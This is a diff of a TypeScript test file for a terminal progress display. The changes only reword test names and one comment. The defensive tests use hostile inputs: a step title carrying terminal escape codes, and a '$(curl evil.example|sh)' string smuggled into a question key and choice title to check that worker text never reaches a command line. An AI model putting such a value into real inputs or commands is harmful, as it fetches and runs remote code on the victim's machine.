@@ -33,7 +33,7 @@ const progress = () => {
   return run;
 };
 
-test('a completed step is one line: mark, number, title, duration, short output', () => {
+test('a completed step is one line: symbol, number, title, duration, short output', () => {
   const run = progress();
   expect(run.update(stepStarted(2, 'Read the catalogue'))).toEqual({
     lines: [],
@@ -49,7 +49,7 @@ test('a completed step is one line: mark, number, title, duration, short output'
   expect(activity).toBeNull();
 });
 
-test('an attempt that is followed by another one is a line, and the next one is waited for', () => {
+test('a retried attempt is a line, and the activity shows the next attempt', () => {
   const run = progress();
   const ref = { step: 3, path: 'log_in', id: 'log_in' };
   const startData = { ...ref, action: 'click', title: 'Log in', summary: '' } as const;
@@ -68,7 +68,7 @@ test('an attempt that is followed by another one is a line, and the next one is 
   expect(activity?.text).toBe(' 4/24  waiting for attempt 2');
 });
 
-test('a step that failed has its cross and code, and the run that failed says at which step', () => {
+test('a failed step has a cross and its code; a failed run names its step', () => {
   const run = progress();
   run.update(stepStarted(3, 'Log in'));
   const [line] = run.update(
@@ -80,7 +80,7 @@ test('a step that failed has its cross and code, and the run that failed says at
   expect(run.failure).toEqual({ step: 3, path: '4', title: 'Log in' });
 });
 
-test('where control flow decides how many steps there are, a line says where its step stands', () => {
+test('with control flow, a line has the path of its step', () => {
   const run = new Progress(styleFor(false));
   run.update(queued());
   const title = 'Read';
@@ -108,7 +108,7 @@ test('a lost worker is shown, and the wait for another one', () => {
   });
 });
 
-test('titles and messages of others cannot act on the terminal', () => {
+test('untrusted titles and messages cannot control the terminal', () => {
   const run = progress();
   run.update(stepStarted(0, 'Open \u001b]0;mine\u0007the page\r'));
   expect(run.update(stepCompleted(0)).lines[0]).toContain('Open the page');
@@ -157,7 +157,7 @@ test('a question is shown with the commands that answer it', () => {
     '    Mark the run as completed',
   ]);
   expect(update.activity?.text).toBe('needs input');
-  // Text of a worker is never on the line of a command.
+  // Command lines contain no text of a worker.
   const evil = '$(curl evil.example|sh)';
   const choices = [{ choice: 'continue' as const, title: evil }];
   const hostile = { ...question, key: `0.0@${evil}`, choices };
